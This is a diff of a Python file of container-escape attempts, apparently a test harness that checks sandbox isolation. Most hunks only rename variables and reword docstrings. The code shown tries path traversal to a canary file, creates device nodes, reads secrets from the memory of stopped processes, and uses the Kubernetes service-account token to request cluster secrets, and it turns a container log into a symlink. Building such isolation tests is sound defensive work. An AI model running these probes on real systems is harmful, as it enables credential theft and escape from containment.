@@ -1,4 +1,4 @@
-"""What an attacker runs in a container: one function for each attempt, its answer is what the attempt saw or got.
+"""Attacks run in a container: one function for each attempt, which returns what the attempt saw or got.
 
 This file is sent into the container as it is, to the host's `python3`; so it needs nothing but the standard library.
 Each attempt runs in a child of its own, bounded in time. Nothing here damages the machine where an attempt succeeds:
@@ -105,7 +105,7 @@ def listing(path: str) -> str:
 
 
 def look(path: str) -> str:
-    """Everything that can be seen of a path: the names in it, the canary in it, what it says itself."""
+    """Return what is visible of a path: the names in it, the canary in it, its own content."""
     return f"{path}: [{listing(path)}] [{read(path)}] [{read(path + '/canary')}]"
 
 
@@ -132,7 +132,7 @@ def credentials() -> str:
 
 
 def descriptors() -> str:
-    """What the program was started with, the one that lists them aside."""
+    """The descriptors with which the program was started, without the one that lists them."""
     return "\n".join(f"{fd} {target}" for fd, target in INHERITED.items() if not target.startswith("/proc/"))
 
 
@@ -157,10 +157,10 @@ def process_count() -> str:
 
 
 def canary_by_name() -> str:
-    place = CONFIG["machine"]
+    directory = CONFIG["machine"]
     up = "/".join([".."] * 20)
     bases = ["", f"/{up}", f"/proc/self/root/{up}", f"/proc/self/cwd/{up}", "/proc/1/root", f"/proc/1/cwd/{up}"]
-    return "\n".join(look(base + place) for base in bases)
+    return "\n".join(look(base + directory) for base in bases)
 
 
 def canary_by_search() -> str:
@@ -300,9 +300,9 @@ def block_devices() -> list[tuple[str, int]]:
     try:
         with open("/proc/partitions", encoding="ascii") as file:
             for line in file:
-                words = line.split()
-                if len(words) == 4 and words[0].isdigit():
-                    found.add((words[3], os.makedev(int(words[0]), int(words[1]))))
+                fields = line.split()
+                if len(fields) == 4 and fields[0].isdigit():
+                    found.add((fields[3], os.makedev(int(fields[0]), int(fields[1]))))
     except OSError:
         pass
     return sorted(found)[:16]
@@ -343,7 +343,7 @@ def block_device_in_volume() -> str:
 
 def block_device_in_root() -> str:
     return "\n".join(
-        make_and_open(place, stat.S_IFBLK, block_devices()) for place in ("/tmp", "/dev", "/dev/shm", "/etc")
+        make_and_open(directory, stat.S_IFBLK, block_devices()) for directory in ("/tmp", "/dev", "/dev/shm", "/etc")
     )
 
 
@@ -352,7 +352,9 @@ def character_device_in_volume() -> str:
 
 
 def character_device_in_root() -> str:
-    return "\n".join(make_and_open(place, stat.S_IFCHR, CHARACTER_DEVICES) for place in ("/tmp", "/dev", "/dev/shm"))
+    return "\n".join(
+        make_and_open(directory, stat.S_IFCHR, CHARACTER_DEVICES) for directory in ("/tmp", "/dev", "/dev/shm")
+    )
 
 
 def devices_shown() -> str:
@@ -725,7 +727,7 @@ def watch_for_exec() -> str:
 
 
 def pry(pid: int) -> set[str]:
-    """What a stopped process shows, unless it is the program that was asked for."""
+    """The secrets visible in a stopped process, unless it is the requested program."""
     found = set()
     try:
         os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
@@ -991,12 +993,12 @@ def secrets_by_token() -> str:
     import urllib.error
     import urllib.request
 
-    place = "/var/run/secrets/kubernetes.io/serviceaccount"
-    context = ssl.create_default_context(cafile=f"{place}/ca.crt")
+    directory = "/var/run/secrets/kubernetes.io/serviceaccount"
+    context = ssl.create_default_context(cafile=f"{directory}/ca.crt")
     base = f"https://{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
     lines = []
     for path in ("/api/v1/secrets", "/api/v1/namespaces/victim/secrets/canary", "/api/v1/nodes/node1/proxy/pods"):
-        request = urllib.request.Request(base + path, headers={"Authorization": f"Bearer {read(place + '/token')}"})
+        request = urllib.request.Request(base + path, headers={"Authorization": f"Bearer {read(directory + '/token')}"})
         try:
             with urllib.request.urlopen(request, timeout=5, context=context) as answer:
                 lines.append(f"OPEN {answer.read(10000)!r}")
@@ -1035,7 +1037,7 @@ def files_of_the_node():
 
 
 def replace_logs() -> str:
-    """The log of the container that says "log-of-the-talker" becomes a link to a file of the user's."""
+    """The log of the container that prints "log-of-the-talker" becomes a link to a file of the user's."""
     text, replaced = "log-of-" + "the-talker", []
     for path in files_of_the_node():
         try:
